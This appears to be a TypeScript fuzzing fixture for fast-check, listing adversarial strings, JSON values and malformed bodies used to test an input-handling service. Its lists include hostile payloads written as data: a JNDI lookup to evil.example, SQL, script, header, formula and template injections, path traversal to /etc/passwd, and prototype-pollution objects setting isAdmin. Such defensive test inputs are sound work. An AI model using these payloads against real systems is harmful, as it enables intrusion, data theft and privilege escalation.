import fc from "fast-check";

/** JSON that `JSON.stringify` can't write: numbers beyond exactness, keys of every object's prototype. */
const raw = (text: string): string => `@raw:${Buffer.from(text).toString("hex")}`;

/** The JSON text of a value, in which raw parts stand as they are. */
export const jsonText = (value: unknown): string =>
  (JSON.stringify(value) ?? "null").replace(/"@raw:([0-9a-f]*)"/g, (_, hex: string) =>
    Buffer.from(hex, "hex").toString("utf8"),
  );

export const nastyTexts: readonly string[] = [
  "",
  " ",
  "\u0000",
  "a\r\nSet-Cookie: admin=1",
  "\u001b[2J\u001b]0;owned\u0007",
  '","level":"info","message":"forged"}\n{"level":"error',
  "\u202emoc.elpmaxe@ada",
  "\u200b\u2060\ufeff",
  "\ud800",
  "\udc00a",
  "e\u0301".repeat(100),
  "👩‍👩‍👧‍👦".repeat(20),
  "ﷺ".repeat(64),
  "İstanbul ß ﬁ K",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "<script>alert(1)</script>",
  "'; DROP TABLE orders; --",
  `$${"{jndi:ldap://evil.example/a}"}`,
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "=cmd|' /C calc'!A0",
  "x".repeat(5_000),
  ":version",
  "#status",
  "ord_0000000000000000000000000O",
  "NaN",
  "null",
  "undefined",
];

export const nastyValues: readonly unknown[] = [
  ...nastyTexts,
  null,
  true,
  0,
  -1,
  0.1,
  1.0000000000000002,
  raw("-0"),
  raw("1e21"),
  raw("1e400"),
  raw("-1e400"),
  raw("9007199254740993"),
  raw("123456789012345678901234567890"),
  raw("0.1e1"),
  raw("2.0"),
  [],
  {},
  raw('{"__proto__":{"isAdmin":true}}'),
  raw('{"constructor":{"prototype":{"isAdmin":true}}}'),
  raw('{"a":1,"a":2}'),
  raw("[".repeat(400) + "]".repeat(400)),
  raw(`${'{"a":'.repeat(400)}1${"}".repeat(400)}`),
  Array(2_000).fill(0),
  Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${i}`, i])),
];

export const nastyText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyTexts) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
);

export const nastyValue = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...nastyValues) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
);

/** Bodies that aren't JSON values at all. */
export const nastyBodies: readonly string[] = [
  "",
  "[",
  '"',
  "{",
  "nul",
  "[".repeat(60_000),
  '{"a":'.repeat(12_000),
  '{"items":['.repeat(5_000),
  "x".repeat(70_000),
  "\ufeff{}",
  "{}{}",
  "// comment\n{}",
  "{'a':1}",
  '{"a":NaN}',
  '{"a":\u0000}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
];
